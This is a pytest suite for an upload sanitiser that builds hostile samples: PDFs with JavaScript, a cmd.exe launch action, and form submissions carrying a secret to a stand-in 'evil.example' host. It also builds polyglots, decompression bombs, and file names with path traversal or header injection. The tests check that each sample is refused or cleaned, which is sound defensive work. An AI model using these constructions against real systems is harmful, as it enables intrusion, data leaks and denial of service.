"""Files from outside: what is refused, what is kept, and that nothing is kept as it was sent."""

import hashlib
import io
import os
import struct
import time
import zipfile
import zlib
from collections.abc import Callable, Iterator
from contextlib import closing
from dataclasses import replace
from datetime import timedelta
from pathlib import Path
from typing import Any
from uuid import UUID

import pikepdf
import pytest
import sqlalchemy as sa
from flask import Flask
from flask.testing import FlaskClient
from PIL import Image, PngImagePlugin
from sqlalchemy.orm import Session
from werkzeug.datastructures import FileStorage
from werkzeug.test import encode_multipart

import wsgi
from server.access import Permission, Role, actor, require
from server.api import Blueprint
from server.clock import now
from server.database import db, new_id, transaction
from server.errors import DomainError
from server.files import cleaning, intake, store
from server.files.intake import CleanFile
from server.files.jobs import sweep
from server.files.models import StoredFile
from server.files.serving import StoredFileView, serve
from server.files.uploads import takes_files, upload_body, uploaded, uploaded_files
from server.idempotency import idempotent
from server.people import sessions
from server.people.models import Staff
from server.settings import Settings, SettingsError

SECRET = b"39.1234N-117.5678E"  # what a phone writes into its pictures, and a name that a document hides


def jpeg(size: tuple[int, int] = (64, 48), mode: str = "RGB", *, exif: bytes = b"", **options: Any) -> bytes:
    out = io.BytesIO()
    Image.new(mode, size, 80).save(out, "JPEG", exif=exif, **options)
    return out.getvalue()


def png(size: tuple[int, int] = (64, 48), mode: str = "RGB", **options: Any) -> bytes:
    out = io.BytesIO()
    Image.new(mode, size).save(out, "PNG", **options)
    return out.getvalue()


def png_of_header(width: int, height: int, data: bytes) -> bytes:
    """A PNG whose header announces a size and whose data is `data`, packed."""

    def chunk(name: bytes, body: bytes) -> bytes:
        return struct.pack(">I", len(body)) + name + body + struct.pack(">I", zlib.crc32(name + body))

    header = struct.pack(">IIBBBBB", width, height, 8, 2, 0, 0, 0)
    return b"\x89PNG\r\n\x1a\n" + chunk(b"IHDR", header) + chunk(b"IDAT", zlib.compress(data, 9)) + chunk(b"IEND", b"")


def gps_exif() -> bytes:
    exif = Image.Exif()
    exif[0x0112] = 6  # turned by a quarter
    exif[0x010E] = SECRET.decode()
    exif.get_ifd(0x8825)[29] = SECRET.decode()
    return exif.tobytes()


def document(change: Callable[[pikepdf.Pdf], None] = lambda _: None, *, pages: int = 1, **options: Any) -> bytes:
    made = pikepdf.new()
    for _ in range(pages):
        made.add_blank_page(page_size=(200, 200))
    made.pages[0].Contents = made.make_stream(b"BT /F1 12 Tf 20 100 Td (Hello) Tj ET")
    change(made)
    out = io.BytesIO()
    made.save(out, **options)
    return out.getvalue()


def action(kind: str, **entries: Any) -> pikepdf.Dictionary:
    return pikepdf.Dictionary(Type=pikepdf.Name.Action, S=pikepdf.Name("/" + kind), **entries)


def with_javascript(pdf: pikepdf.Pdf) -> None:
    script = action("JavaScript", JS=pikepdf.String("app.alert('" + SECRET.decode() + "')"))
    pdf.Root.OpenAction = pdf.make_indirect(script)
    pdf.Root.Names = pikepdf.Dictionary(JavaScript=pikepdf.Dictionary(Names=pikepdf.Array(["a", script])))
    pdf.pages[0].AA = pikepdf.Dictionary(O=script)


def with_launch(pdf: pikepdf.Pdf) -> None:
    launch = action("Launch", F=pikepdf.Dictionary(Type=pikepdf.Name.Filespec, F="cmd.exe", UF=SECRET.decode()))
    jump = action("GoTo", D=pikepdf.Array([pdf.pages[0].obj, pikepdf.Name.Fit]), Next=pikepdf.Array([launch]))
    pdf.pages[0].Annots = pikepdf.Array(
        [
            pdf.make_indirect(annotation("Link", A=pdf.make_indirect(jump))),
            annotation("Link", A=action("URI", URI="file://evil/" + SECRET.decode())),
            annotation("Link", A=action("SubmitForm", F="https://evil.example/" + SECRET.decode())),
        ]
    )


def with_attachment(pdf: pikepdf.Pdf) -> None:
    pdf.attachments["payload.exe"] = pikepdf.AttachedFileSpec(pdf, b"MZ" + SECRET, filename="payload.exe")
    spec = pdf.attachments["payload.exe"].obj
    pdf.pages[0].Annots = pikepdf.Array([annotation("FileAttachment", FS=spec)])
    pdf.Root.AF = pikepdf.Array([spec])


def with_form(pdf: pikepdf.Pdf) -> None:
    xfa = pdf.make_stream(b"<xdp><script>" + SECRET + b"</script></xdp>")
    field = annotation("Widget", FT=pikepdf.Name.Tx, T="name", V="value", AA=pikepdf.Dictionary(K=action("JavaScript")))
    pdf.Root.AcroForm = pikepdf.Dictionary(XFA=xfa, Fields=pikepdf.Array([pdf.make_indirect(field)]))


def with_media(pdf: pikepdf.Pdf) -> None:
    film = pdf.make_stream(SECRET)
    pdf.pages[0].Annots = pikepdf.Array(
        [
            annotation("RichMedia", RichMediaContent=pikepdf.Dictionary(Assets=film)),
            annotation("Screen", A=action("Rendition", R=film)),
        ]
    )


def with_outside_data(pdf: pikepdf.Pdf) -> None:
    stream = pdf.make_stream(b"")
    stream.F = pikepdf.Dictionary(Type=pikepdf.Name.Filespec, F="//evil.example/" + SECRET.decode())
    pdf.pages[0].Resources = pikepdf.Dictionary(XObject=pikepdf.Dictionary(X=stream))


def with_photograph(pdf: pikepdf.Pdf) -> None:
    """As a phone's scanner makes them: the picture of the page says where it was taken, and so does one behind it."""
    photo = pdf.make_stream(jpeg(exif=gps_exif(), comment=SECRET) + jpeg(exif=gps_exif()))
    photo.Type, photo.Subtype, photo.Filter = pikepdf.Name.XObject, pikepdf.Name.Image, pikepdf.Name.DCTDecode
    photo.Width, photo.Height, photo.BitsPerComponent, photo.ColorSpace = 64, 48, 8, pikepdf.Name.DeviceRGB
    photo.Metadata = pdf.make_stream(b"<x:xmpmeta>" + SECRET + b"</x:xmpmeta>")
    pdf.pages[0].Resources = pikepdf.Dictionary(XObject=pikepdf.Dictionary(Photo=photo))
    pdf.pages[0].Contents = pdf.make_stream(b"q 100 0 0 100 0 0 cm /Photo Do Q")
    pdf.docinfo["/Author"] = SECRET.decode()
    with pdf.open_metadata() as metadata:
        metadata["dc:creator"] = [SECRET.decode()]


def annotation(kind: str, **entries: Any) -> pikepdf.Dictionary:
    return pikepdf.Dictionary(
        Type=pikepdf.Name.Annot, Subtype=pikepdf.Name("/" + kind), Rect=pikepdf.Array([0, 0, 9, 9]), **entries
    )


def archive() -> bytes:
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w") as packed:
        packed.writestr("evil.js", SECRET)
    return out.getvalue()


def animated() -> bytes:
    out = io.BytesIO()
    Image.new("RGB", (9, 9)).save(out, "PNG", save_all=True, append_images=[Image.new("RGB", (9, 9), "red")])
    return out.getvalue()


def told_png() -> bytes:
    told = PngImagePlugin.PngInfo()
    told.add_text("Comment", SECRET.decode(), zip=True)
    told.add_itxt("XML:com.adobe.xmp", SECRET.decode())
    return png(pnginfo=told, exif=gps_exif(), icc_profile=SECRET * 10)


# Each a file that somebody could hand in: its name, what makes it, and what becomes of it (a media type or an error).
CORPUS: list[tuple[str, Callable[[], bytes], str]] = [
    ("gps.jpg", lambda: jpeg(exif=gps_exif(), comment=SECRET), "image/jpeg"),
    ("cmyk.jpg", lambda: jpeg(mode="CMYK", exif=gps_exif()), "image/jpeg"),
    ("motion-photo.jpg", lambda: jpeg() + b"ftypmp42" + SECRET, "image/jpeg"),
    ("jpeg-and-zip.jpg", lambda: jpeg() + archive(), "image/jpeg"),
    ("jpeg-with-script.jpg", lambda: jpeg(comment=b"<script>alert(1)</script>" + SECRET), "image/jpeg"),
    ("told.png", told_png, "image/png"),
    ("palette.png", lambda: png(mode="P", transparency=0) + SECRET, "image/png"),
    ("sixteen-bit.png", lambda: png(mode="I;16") + SECRET, "image/png"),
    ("wrong-ending.pdf", lambda: png() + SECRET, "image/png"),
    ("../../etc/passwd\0.png", lambda: png() + SECRET, "image/png"),
    ("\u202egnp.exe", lambda: png() + SECRET, "image/png"),
    ("animated.png", animated, "file-animated"),
    ("bomb.png", lambda: png_of_header(6000, 6000, bytes(6000 * 18001)), "image/png"),
    ("huge.png", lambda: png_of_header(60_000, 60_000, bytes(1000)), "picture-too-many-pixels"),
    ("announces-more.png", lambda: png_of_header(6000, 6000, bytes(1000)), "file-damaged"),
    ("cut-off.jpg", lambda: jpeg((640, 480))[:-400], "file-damaged"),
    ("empty.png", lambda: b"", "file-type-refused"),
    ("page.svg.png", lambda: b'<svg xmlns="http://www.w3.org/2000/svg"><script/></svg>', "file-type-refused"),
    ("page.jpg", lambda: b"<!doctype html><script>alert(1)</script>", "file-type-refused"),
    ("archive.pdf", archive, "file-type-refused"),
    ("gif-and-pdf.pdf", lambda: b"GIF89a" + document(), "file-type-refused"),
    ("program.exe", lambda: b"MZ" + bytes(100), "file-type-refused"),
    ("javascript.pdf", lambda: document(with_javascript), "application/pdf"),
    ("launch.pdf", lambda: document(with_launch), "application/pdf"),
    ("attachment.pdf", lambda: document(with_attachment), "application/pdf"),
    ("form.pdf", lambda: document(with_form), "application/pdf"),
    ("media.pdf", lambda: document(with_media), "application/pdf"),
    ("outside.pdf", lambda: document(with_outside_data), "application/pdf"),
    ("scan.pdf", lambda: document(with_photograph), "application/pdf"),
    ("pdf-and-zip.pdf", lambda: document() + archive(), "application/pdf"),
    (
        "pdf-and-html.pdf",
        lambda: document().replace(b"\n", b"\n%<script>" + SECRET + b"</script>\n", 1),
        "file-damaged",
    ),
    ("locked.pdf", lambda: document(encryption=pikepdf.Encryption(owner="o", user="u")), "file-encrypted"),
    ("restricted.pdf", lambda: document(encryption=pikepdf.Encryption(owner="o", user="")), "file-encrypted"),
    ("cut-off.pdf", lambda: document()[:-60], "file-damaged"),
    ("thick.pdf", lambda: document(pages=201), "document-too-many-pages"),
]


def outcome(content: bytes, name: str) -> CleanFile | str:
    try:
        return intake.clean(content, name=name)
    except DomainError as refusal:
        return refusal.code


def everything_in(content: bytes) -> bytes:
    """All that a reader could find in a file: its bytes, and each object and stream of a document, unpacked."""
    if not content.startswith(b"%PDF-"):
        return content
    found = [content]
    with pikepdf.open(io.BytesIO(content)) as pdf:
        for each in pdf.objects:
            found.append(each.unparse())
            if isinstance(each, pikepdf.Stream):
                found.append(each.read_raw_bytes())
                if str(each.get("/Filter")) != "/DCTDecode":
                    found.append(each.read_bytes())
    return b"\n".join(found)


@pytest.mark.parametrize(("name", "make", "expected"), CORPUS, ids=[name for name, _, _ in CORPUS])
def test_of_the_hostile_files_none_is_kept_as_it_was_sent(name: str, make: Callable[[], bytes], expected: str) -> None:
    sent = make()

    kept = outcome(sent, name)

    if isinstance(kept, str):
        assert kept == expected
        return
    assert kept.media_type == expected
    assert kept.content != sent
    inside = everything_in(kept.content)
    for trace in (
        SECRET,
        b"Exif",
        b"<script",
        b"PK\x03\x04",
        b"/JavaScript",
        b"/Launch",
        b"/URI",
        b"/XFA",
        b"/EF",
        b"MZ",
    ):
        assert trace not in inside, trace
    assert not {"/", "\\", "\0", "\u202e"} & set(kept.name)
    assert kept.name.endswith({"application/pdf": ".pdf", "image/jpeg": ".jpg", "image/png": ".png"}[kept.media_type])


def test_the_corpus_is_large_enough_and_catches_a_store_that_keeps_what_is_sent() -> None:
    assert len(CORPUS) >= 25
    naive = [name for name, make, _ in CORPUS if SECRET in everything_in_if_readable(make())]
    assert len(naive) >= 12, naive


def everything_in_if_readable(content: bytes) -> bytes:
    try:
        return everything_in(content)
    except (pikepdf.PdfError, pikepdf.PasswordError):
        return content


def test_a_photograph_is_turned_upright_and_keeps_its_colours() -> None:
    sent = io.BytesIO()
    picture = Image.new("RGB", (64, 48), (200, 30, 30))
    picture.paste((30, 30, 200), (0, 0, 32, 48))
    picture.save(sent, "JPEG", quality=95, exif=gps_exif())

    kept = intake.clean(sent.getvalue(), name="照片.JPEG")

    assert (kept.width, kept.height, kept.name) == (48, 64, "照片.jpg")
    with Image.open(io.BytesIO(kept.content)) as shown:
        assert dict(shown.getexif()) == {}
        top, bottom = shown.getpixel((24, 8)), shown.getpixel((24, 56))
    assert isinstance(top, tuple)
    assert isinstance(bottom, tuple)
    assert top[2] > 150 > top[0]
    assert bottom[0] > 150 > bottom[2]


def test_a_document_keeps_its_pages_their_text_and_its_inner_links() -> None:
    kept = intake.clean(document(with_launch, pages=3), name="a.pdf")

    assert kept.pages == 3
    with pikepdf.open(io.BytesIO(kept.content)) as pdf:
        assert b"(Hello) Tj" in pdf.pages[0].Contents.read_bytes()
        links = list(pdf.pages[0].Annots)
        assert [str(link.get("/A", {}).get("/S")) for link in links] == ["/GoTo", "None", "None"]
        assert "/Next" not in links[0].A


def test_the_picture_of_a_scanned_page_still_shows() -> None:
    kept = intake.clean(document(with_photograph), name="scan.pdf")

    with pikepdf.open(io.BytesIO(kept.content)) as pdf:
        photo = pdf.pages[0].Resources.XObject.Photo
        with Image.open(io.BytesIO(photo.read_raw_bytes())) as shown:
            shown.load()
            assert shown.size == (64, 48)


@pytest.mark.parametrize("options", [{}, {"progressive": True}, {"restart_marker_blocks": 2}, {"comment": b"\xff\xd9"}])
def test_taking_a_jpegs_metadata_out_changes_no_pixel(options: dict[str, Any]) -> None:
    noise = Image.effect_noise((120, 90), 80)
    for mode in ("L", "RGB", "CMYK"):
        out = io.BytesIO()
        noise.convert(mode).save(out, "JPEG", exif=gps_exif(), **options)
        bare = cleaning.without_metadata(out.getvalue() + b"trailer" + SECRET)
        assert SECRET not in bare
        assert bare.endswith(b"\xff\xd9")
        with Image.open(out) as before, Image.open(io.BytesIO(bare)) as after:
            assert before.tobytes() == after.tobytes()


def test_what_takes_too_long_or_too_much_memory_is_ended(monkeypatch: pytest.MonkeyPatch) -> None:
    def with_bomb(pdf: pikepdf.Pdf) -> None:
        squeezed = zlib.compress(bytes(200_000_000), 9)
        streams = [pdf.make_stream(squeezed) for _ in range(40)]  # eight gigabytes in eight megabytes
        for stream in streams:
            stream.Filter = pikepdf.Name.FlateDecode
        pdf.pages[0].Contents = pikepdf.Array(streams)

    bomb = document(with_bomb, compress_streams=False, stream_decode_level=pikepdf.StreamDecodeLevel.none)
    assert len(bomb) < intake.FILE_BYTES_MAX
    monkeypatch.setattr(intake, "CLEANING_SECONDS_MAX", 2)
    began = time.monotonic()

    assert outcome(bomb, "bomb.pdf") == "file-too-complex"
    assert time.monotonic() - began < 10


def test_a_file_above_the_limit_is_refused_unread_and_one_at_the_limit_is_not() -> None:
    padded = document() + b"%" * intake.FILE_BYTES_MAX

    assert outcome(padded, "a.pdf") == "file-too-large"
    assert outcome(padded[: intake.FILE_BYTES_MAX], "a.pdf") != "file-too-large"


@pytest.mark.parametrize(
    ("given", "shown"),
    [
        ("收据 2026.pdf", "收据 2026.png"),
        ("C:\\Users\\wang\\a.jpeg", "a.png"),
        ("../../etc/cron.d/x", "x.png"),
        (".htaccess", "htaccess.png"),
        ("a\0b\u202ec\u200b.exe", "abc.png"),
        ("\r\nSet-Cookie: a=b.png", "Set-Cookie a=b.png"),
        ('"><script>.png', "script.png"),
        ("", "file.png"),
        ("...", "file.png"),
        ("长" * 300 + ".png", "长" * 100 + ".png"),
        ("v1.2 final version notes", "v1.2 final version notes.png"),
    ],
)
def test_a_shown_name_is_a_plain_name_with_the_true_ending(given: str, shown: str) -> None:
    assert intake.shown_name(given, "png") == shown


def keep(session: Session, content: bytes | None = None, **values: Any) -> StoredFile:
    file = intake.clean(content or png(), name="收据.png")
    kept = intake.accept(session, file, **{"purpose": "test", "uploaded_by": None, "now": now(), **values})
    session.commit()
    return kept


@pytest.fixture
def in_app(app: Flask, session: Session) -> Iterator[Flask]:
    """The application's context, which the store hangs on."""
    with app.app_context():
        yield app


def lying_in(app: Flask) -> list[Path]:
    folder = Path(app.extensions["tanpuhui_settings"].files_url.removeprefix("file://"))
    return sorted(path for path in folder.rglob("*") if path.is_file())


def test_what_is_kept_is_in_the_store_under_a_name_of_ours_and_in_its_row(in_app: Flask, session: Session) -> None:
    person = new_id()

    kept = keep(session, uploaded_by=person, purpose="task-evidence")

    row = session.get_one(StoredFile, kept.id, populate_existing=True)
    (path,) = [path for path in lying_in(in_app) if str(kept.id) in path.name]
    assert path.name == f"{kept.id}.png"
    assert hashlib.sha256(path.read_bytes()).digest() == row.sha256
    assert (row.size_bytes, row.width, row.height, row.pages) == (path.stat().st_size, 64, 48, None)
    assert (row.original_name, row.uploaded_by, row.purpose) == ("收据.png", person, "task-evidence")
    with closing(store.open_stored(row)) as opened:
        assert opened.read() == path.read_bytes()


def test_a_served_file_is_a_download_that_no_browser_runs(in_app: Flask, session: Session) -> None:
    kept = keep(session)

    answer = serve(kept)

    assert hashlib.sha256(answer.get_data()).digest() == kept.sha256
    assert answer.content_type == "image/png"
    assert answer.headers["Content-Disposition"] == (
        "attachment; filename=\"file.png\"; filename*=UTF-8''%E6%94%B6%E6%8D%AE.png"
    )
    assert answer.headers["X-Content-Type-Options"] == "nosniff"
    assert "sandbox" in answer.headers["Content-Security-Policy"]
    assert "no-store" in answer.headers["Cache-Control"]


def test_a_file_that_was_changed_in_the_store_is_not_served(in_app: Flask, session: Session) -> None:
    kept, other = keep(session), keep(session)
    (path,) = [path for path in lying_in(in_app) if str(kept.id) in path.name]
    path.write_bytes(path.read_bytes()[:-1] + b"x")
    (gone,) = [path for path in lying_in(in_app) if str(other.id) in path.name]
    gone.unlink()

    for file in (kept, other):
        with pytest.raises(store.StoreUnavailable):
            serve(file)


def test_a_deleted_file_loses_its_name_at_once_and_its_bytes_in_the_sweep(in_app: Flask, session: Session) -> None:
    kept, other = keep(session), keep(session)

    store.remove(session, kept.id, now=now())
    session.commit()

    row = session.get_one(StoredFile, kept.id, populate_existing=True)
    assert (row.original_name, row.deleted_at is not None) == ("", True)
    with pytest.raises(DomainError) as refused:
        serve(row)
    assert refused.value.code == "not-found"
    grow_old(in_app)
    sweep(0)
    names = [path.name for path in lying_in(in_app)]
    assert f"{kept.id}.png" not in names
    assert f"{other.id}.png" in names


def grow_old(app: Flask, age: timedelta = timedelta(days=2)) -> None:
    for path in lying_in(app):
        os.utime(path, (time.time() - age.total_seconds(),) * 2)


def test_the_sweep_takes_bytes_without_a_row_once_they_are_a_day_old(in_app: Flask, session: Session) -> None:
    file = intake.clean(png(), name="a.png")
    refused = intake.accept(session, file, purpose="test", uploaded_by=None, now=now())
    session.rollback()
    store.store().write("files/zz/zz/not-ours.png", b"x")

    assert refused.id.hex in "".join(path.name.replace("-", "") for path in lying_in(in_app))
    sweep(0)
    assert f"{refused.id}.png" in [path.name for path in lying_in(in_app)], "it may be committing at this moment"

    grow_old(in_app)
    sweep(0)
    names = [path.name for path in lying_in(in_app)]
    assert f"{refused.id}.png" not in names
    assert "not-ours.png" not in names


@pytest.mark.parametrize(
    "values",
    [
        {"media_type": "image/svg+xml"},
        {"size_bytes": 0},
        {"size_bytes": 20 * 1024 * 1024 + 1},
        {"sha256": b"short"},
        {"width": None},
        {"pages": 3},
        {"width": 40_001, "height": 1000},
        {"media_type": "application/pdf"},
        {"media_type": "application/pdf", "width": None, "height": None, "pages": 201},
        {"original_name": ""},
        {"purpose": "../evil"},
        {"deleted_at": sa.func.now(), "original_name": "still here"},
    ],
)
def test_the_database_refuses_a_row_that_no_intake_makes(session: Session, values: dict[str, Any]) -> None:
    good = {
        "purpose": "test",
        "media_type": "image/png",
        "size_bytes": 9,
        "sha256": bytes(32),
        "width": 40_000,
        "height": 1000,
        "original_name": "a.png",
        "uploaded_at": now() - timedelta(days=1),
    }
    session.execute(sa.insert(StoredFile).values(id=new_id(), **good))
    with pytest.raises(sa.exc.IntegrityError), session.begin_nested():
        session.execute(sa.insert(StoredFile).values(id=new_id(), **{**good, **values}))


@pytest.mark.parametrize("column", ["sha256", "size_bytes", "uploaded_by", "media_type"])
def test_the_service_may_not_change_what_a_file_was(in_app: Flask, session: Session, column: str) -> None:
    kept = keep(session)
    changes = {"sha256": bytes(32), "size_bytes": 5, "uploaded_by": new_id(), "media_type": "image/jpeg"}

    with pytest.raises(sa.exc.ProgrammingError, match="permission denied"), session.begin_nested():
        session.execute(sa.update(StoredFile).where(StoredFile.id == kept.id).values({column: changes[column]}))
    with pytest.raises(sa.exc.ProgrammingError, match="permission denied"), session.begin_nested():
        session.execute(sa.delete(StoredFile).where(StoredFile.id == kept.id))


# ── Over HTTP: a room of the test's own, with one address for one file and one for up to three ──

rooms = Blueprint("photos", __name__, url_prefix="/api/v1/test-photos")


@rooms.post("")
@require(Permission.CAMPAIGN_RUN)
@takes_files()
@idempotent
@rooms.doc(requestBody=upload_body())
@rooms.response(201, StoredFileView)
def add_photo() -> StoredFile:
    """Keep one file."""
    file = uploaded()
    with transaction() as session:
        return intake.accept(session, file, purpose="test", uploaded_by=actor().id, now=now())


@rooms.post("/many")
@require(Permission.CAMPAIGN_RUN)
@takes_files(3)
@rooms.doc(requestBody=upload_body(3, text=("note",), required=False))
@rooms.response(201)
def add_photos() -> dict[str, Any]:
    """Look at none to three files."""
    return {"names": [file.name for file in uploaded_files()]}


@pytest.fixture(scope="module")
def room(base_settings: Settings, make_database: Callable[[], str]) -> Iterator[Flask]:
    """An application with that room, on a database of its own."""
    url = make_database()
    with pytest.MonkeyPatch.context() as patch:
        patch.setattr(wsgi, "BLUEPRINTS", [*wsgi.BLUEPRINTS, rooms])
        made = wsgi.create_app(replace(base_settings, database_url=url, database_owner_url=url))
    yield made
    made.extensions["tanpuhui_wechat"].close()
    with made.app_context():
        db.engine.dispose()


@pytest.fixture
def photos(room: Flask) -> tuple[FlaskClient, dict[str, str]]:
    """A client of the room, and the headers of a new member of staff."""
    person = new_id()
    with room.app_context():
        with transaction() as session:
            session.execute(
                sa.insert(Staff).values(
                    id=person,
                    name=f"street-{person.hex}",
                    password_hash="unusable",
                    role=Role.STREET,
                    division="120104001",
                    created_at=now(),
                )
            )
        with transaction() as session:
            tokens = sessions.begin(session, person, is_resident=False, now=now())
    return room.test_client(), {"Authorization": f"Bearer {tokens.access_token}"}


def send(client: FlaskClient, headers: dict[str, str], *files: tuple[bytes, str], path: str = "", **form: Any) -> Any:
    body, kind = form_of(*files, **form)
    return client.post(f"/api/v1/test-photos{path}", headers=headers, data=body, content_type=kind)


def form_of(*files: tuple[bytes, str], **form: Any) -> tuple[bytes, str]:
    """A form's bytes, the same each time, and its type; the test client leaves a temporary file open for large ones."""
    parts = [FileStorage(io.BytesIO(content), name, "file") for content, name in files]
    boundary, body = encode_multipart({"file": parts, **form}, boundary="edge")
    return body, f"multipart/form-data; boundary={boundary}"


def test_a_file_comes_in_over_http_and_is_answered_with_what_is_known_of_it(photos: Any) -> None:
    client, headers = photos

    answer = send(client, headers, (png((300, 200)), "收据.exe"))

    assert answer.status_code == 201, answer.text
    assert answer.json["name"] == "收据.png"
    assert (answer.json["media_type"], answer.json["width"], answer.json["height"]) == ("image/png", 300, 200)
    assert len(answer.json["sha256"]) == 64


def test_a_large_file_comes_in_only_where_the_view_takes_files(photos: Any) -> None:
    client, headers = photos
    noise = io.BytesIO()
    Image.effect_noise((1500, 1500), 90).save(noise, "PNG")
    assert len(noise.getvalue()) > 1_000_000

    taken = send(client, headers, (noise.getvalue(), "noise.png"))
    body, kind = form_of((noise.getvalue(), "a.png"))
    elsewhere = client.post("/api/v1/campaigns", headers=headers, data=body, content_type=kind)
    too_large = send(client, headers, (bytes(intake.FILE_BYTES_MAX + 1), "a.png"))
    whole = send(client, headers, (bytes(intake.FILE_BYTES_MAX + 200_000), "a.png"))

    assert taken.status_code == 201, taken.text
    assert elsewhere.status_code in {413, 415, 422}
    assert (too_large.status_code, too_large.json["code"]) == (413, "file-too-large")
    assert (whole.status_code, whole.json["code"]) == (413, "payload-too-large")


def test_what_is_no_form_with_one_file_is_refused(photos: Any) -> None:
    client, headers = photos
    post = "/api/v1/test-photos"

    nothing = client.post(post, headers=headers)
    empty = send(client, headers, (b"", "a.png"))
    two = send(client, headers, (png(), "a.png"), (png(), "b.png"))
    other_part = client.post(post, headers=headers, data={"photo": (io.BytesIO(png()), "a.png")})
    json = client.post(post, headers=headers, json={"file": "x"})
    stranger = client.post(post, data={"file": (io.BytesIO(png()), "a.png")})

    assert [answer.json["code"] for answer in (nothing, empty, two, other_part, json, stranger)] == [
        "unsupported-media-type",
        "file-missing",
        "too-many-files",
        "too-many-files",
        "unsupported-media-type",
        "unauthenticated",
    ]


def test_a_view_may_take_several_files_and_text_beside_them(photos: Any) -> None:
    client, headers = photos
    files = [(png(), f"{number}.png") for number in range(4)]

    three = send(client, headers, *files[:3], path="/many", note="说明")
    four = send(client, headers, *files, path="/many", note="说明")
    none = send(client, headers, path="/many", note="说明")

    assert three.json == {"names": ["0.png", "1.png", "2.png"]}
    assert (four.status_code, four.json["code"]) == (422, "too-many-files")
    assert none.json == {"names": []}


def test_an_upload_sent_again_with_its_key_is_kept_once(photos: Any) -> None:
    client, headers = photos
    keyed = {**headers, "Idempotency-Key": "upload-0001"}
    body, kind = form_of((png((1000, 1000)), "a.png"))

    answers = [client.post("/api/v1/test-photos", headers=keyed, data=body, content_type=kind) for _ in range(2)]

    assert [answer.status_code for answer in answers] == [201, 201]
    assert answers[0].json == answers[1].json
    with client.application.app_context(), transaction() as session:
        kept = sa.select(sa.func.count()).where(StoredFile.sha256 == bytes.fromhex(answers[0].json["sha256"]))
        assert session.scalar(kept) == 1


# ── The store itself ──


def test_the_store_works_over_any_file_system_of_fsspec() -> None:
    made = store.Store(f"memory://{new_id().hex}")

    made.write("files/aa/bb/x.png", b"one")
    made.write("files/aa/bb/x.png", b"two")
    with closing(made.open("files/aa/bb/x.png")) as opened:
        assert opened.read() == b"two"
    assert list(made.names_older_than("files", now() + timedelta(minutes=1))) == ["files/aa/bb/x.png"]
    assert list(made.names_older_than("files", now() - timedelta(minutes=1))) == []
    assert list(made.names_older_than("exports", now())) == []
    made.remove("files/aa/bb/x.png")
    made.remove("files/aa/bb/x.png")
    with pytest.raises(store.StoreUnavailable):
        made.open("files/aa/bb/x.png")


def test_a_full_or_missing_disk_is_told_as_the_store_being_away(tmp_path: Path) -> None:
    made = store.Store((tmp_path / "files").as_uri())
    (tmp_path / "files").write_text("a file where the folder should be")

    with pytest.raises(store.StoreUnavailable) as refused:
        made.write("files/aa/bb/x.png", b"one")
    assert refused.value.status == 503


def test_a_store_that_is_not_installed_stops_the_start(
    base_settings: Settings, monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.setitem(__import__("sys").modules, "s3fs", None)

    with pytest.raises(SettingsError, match="tanpuhui\\[s3\\]"):
        store.Store("s3://bucket/prefix")
    with pytest.raises(SystemExit, match="FILES_URL"):
        wsgi.create_app(replace(base_settings, files_url="s3://bucket/prefix"))


def test_names_in_the_store_are_spread_by_the_random_end_of_the_id() -> None:
    id = UUID("01234567-89ab-7def-8123-456789abcdef")
    assert store.name_of(id, "application/pdf") == f"files/ef/cd/{id}.pdf"


def test_the_form_is_described_and_the_view_tells_how_many_files_it_takes(photos: Any) -> None:
    client, _ = photos
    views = client.application.view_functions
    assert [views[f"photos.{name}"].files_max for name in ("add_photo", "add_photos")] == [1, 3]
    described = client.get("/openapi.json").json["paths"]["/api/v1/test-photos"]["post"]["requestBody"]
    assert described["content"]["multipart/form-data"]["schema"]["required"] == ["file"]
